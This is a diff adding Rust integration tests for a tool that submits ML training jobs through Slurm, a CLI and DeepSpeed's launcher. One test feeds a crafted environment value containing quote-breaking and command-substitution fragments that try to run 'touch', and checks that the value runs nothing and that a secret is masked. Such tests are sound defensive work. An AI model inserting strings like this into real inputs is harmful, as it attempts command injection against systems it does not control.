+    let logs: Vec<String> = events
+        .iter()
+        .filter(|e| e.0 == "log")
+        .map(|e| e.2["text"].as_str().unwrap().to_string())
+        .collect();
+    assert!(
+        logs.iter().any(|l| l.starts_with("submitted Slurm job")),
+        "{logs:?}"
+    );
+    assert!(logs.iter().any(|l| l.contains("COMPLETED")), "{logs:?}");
+    assert!(logs.iter().any(|l| l.contains("ds-studio-result")));
+    let job_dir = studio.data.join(format!("slurm-jobs/job-{}", job.id));
+    let script = std::fs::read_to_string(job_dir.join("slurm.sh")).unwrap();
+    assert!(script.contains("srun --kill-on-bad-exit=1"), "{script}");
+
+    // Hostile values reach the job verbatim and run nothing; a secret reaches it without being
+    // written into the batch script, and its value is masked in the log.
+    let pwned = studio.data.join("pwned");
+    let hostile = format!(
+        "x'; touch {p}; echo '$(touch {p}) `touch {p}` \" ; touch {p}",
+        p = pwned.display()
+    );
+    let probe = studio
+        .submit(
+            t.id,
+            5,
+            json!({"runner": "slurm",
+                   "workload": {"entrypoint": "probe.py"},
+                   "env": {"PROBE_VALUE": hostile},
+                   "secret_env": {"HF_TOKEN": "hf_slurm_secret_value"}}),
+        )
+        .await;
+    let events = collect_events(&studio.client, probe.id, None).await;
+    let end: Job = serde_json::from_value(events.last().unwrap().2.clone()).unwrap();
+    let logs: Vec<String> = events
+        .iter()
+        .filter(|e| e.0 == "log")
+        .map(|e| e.2["text"].as_str().unwrap().to_string())
+        .collect();
+    assert_eq!(end.state, JobState::Succeeded, "{end:?} {logs:?}");
+    let expected = format!("probe-value:'{}'", hostile.replace('\'', "\\'"));
+    assert!(logs.contains(&expected), "{expected} not in {logs:?}");
+    assert!(logs.iter().any(|l| l == "probe-secret-ok:True"), "{logs:?}");
+    assert!(!pwned.exists(), "a value ran as a command");
+    let script = std::fs::read_to_string(
+        studio
+            .data
+            .join(format!("slurm-jobs/job-{}/slurm.sh", probe.id)),
+    )
+    .unwrap();
+    assert!(!script.contains("hf_slurm_secret_value"), "{script}");
+    assert!(!logs.iter().any(|l| l.contains("hf_slurm_secret_value")));
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_cli_submits_watches_lists_and_reads_logs() {
+    let _one = ONE_AT_A_TIME.lock().await;
+    let studio = Studio::start(true).await;
+    let t = studio.template(config(json!({}))).await;
+    let cli = |args: &[&str]| {
+        Command::new(env!("CARGO_BIN_EXE_ds-studio"))
+            .args(args)
+            .env("DS_STUDIO_SERVER", &studio.url)
+            .env("DS_STUDIO_TOKEN", TOKEN)
+            .env("DS_STUDIO_CREDENTIALS", studio.data.join("no-login.json"))
+            .output()
+            .unwrap()
+    };
+    let tid = t.id.to_string();
+    // The server is another process: blocking this test's thread while the CLI runs is fine.
+    let out = cli(&[
+        "jobs",
+        "submit",
+        "--template",
+        &tid,
+        "--max-steps",
+        "10",
+        "--watch",
+    ]);
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(out.status.success(), "{stdout}{stderr}");
+    assert!(
+        stdout.contains(": succeeded") && stdout.contains("preflight passed"),
+        "{stdout}"
+    );
+    // It ends with one line that says how it went.
+    let last = stdout.lines().last().unwrap_or_default();
+    assert!(
+        last.starts_with("job 1 succeeded in ") && last.contains("final loss"),
+        "{stdout}"
+    );
+    // Not a terminal: progress lines, not redraws.
+    assert!(
+        stderr.contains("job 1  running") && !stderr.contains('\r'),
+        "{stderr}"
+    );
+    assert!(stderr.contains("loss"), "{stderr}");
+
+    // The same job as JSON lines, replayed from the start: its events, then its final state.
+    let json_lines = cli(&["jobs", "watch", "1", "--format", "json"]);
+    assert!(json_lines.status.success());
+    let lines: Vec<Value> = String::from_utf8_lossy(&json_lines.stdout)
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    assert_eq!(lines[0]["event"], "log");
+    assert_eq!(lines[0]["id"], "1");
+    assert_eq!(lines.last().unwrap()["event"], "state");
+    assert_eq!(lines.last().unwrap()["data"]["state"], "succeeded");
+    let lr = lines
+        .iter()
+        .filter(|l| l["event"] == "metric" && l["data"]["name"] == "Train/Samples/lr")
+        .count();
+    assert_eq!(lr, 10);
+
+    let list = cli(&["jobs", "list", "--format", "json"]);
+    let page: Value = serde_json::from_slice(&list.stdout).unwrap();
+    assert_eq!(page["total"], 1);
+    let logs = cli(&["jobs", "logs", "1"]);
+    assert!(String::from_utf8_lossy(&logs.stdout).contains("ds-studio-result"));
+    // A job that does not exist: exit 1 with the server's message.
+    let missing = cli(&["jobs", "show", "99"]);
+    assert_eq!(missing.status.code(), Some(1));
+    assert!(String::from_utf8_lossy(&missing.stderr).contains("job 99 not found"));
+    // A config with errors is refused with its diagnostics, nothing is queued.
+    let bad = studio
+        .template(config(json!({"train_batch_size": 7})))
+        .await;
+    let refused = cli(&["jobs", "submit", "--template", &bad.id.to_string()]);
+    assert_eq!(refused.status.code(), Some(1));
+    let err = String::from_utf8_lossy(&refused.stderr);
+    assert!(
+        err.contains("batch") && err.contains("not submitted"),
+        "{err}"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn two_ranks_run_through_deepspeeds_launcher() {
+    let _one = ONE_AT_A_TIME.lock().await;
+    let studio = Studio::start(true).await;
+    // 16 = micro 4 × accumulation 2 × 2 ranks.
+    let t = studio
+        .template(config(json!({"train_batch_size": 16})))
+        .await;
+    let job = studio.submit(t.id, 10, json!({"gpus": 2})).await;
+    let end = studio
+        .wait_state(
+            job.id,
+            &[JobState::Succeeded, JobState::Failed],
+            Duration::from_secs(240),
+        )
+        .await;
+    assert_eq!(end.state, JobState::Succeeded, "{end:?}");
+    let logs: Vec<LogLine> = studio
+        .client
+        .call(Method::GET, &format!("/api/v1/jobs/{}/logs", job.id), None)
+        .await
+        .unwrap();
+    assert!(
+        logs.iter().any(|l| l.text.starts_with("launch:")
+            && l.text.contains("deepspeed.launcher.runner --num_gpus 2")),
+        "{logs:?}"
+    );
+    assert!(
+        logs.iter().any(|l| l.text.contains("world=2")),
+        "the workload saw two ranks"
+    );
+    let series: Vec<MetricSeries> = studio.metrics(job.id).await;
+    let lr = series
+        .iter()
+        .find(|s| s.name == "Train/Samples/lr")
+        .unwrap();
+    // Only rank 0 writes the monitor: one point per step, 16 samples per step.
+    assert_eq!(lr.total, 10);
+    assert_eq!(lr.points[0].0, 16);
+}
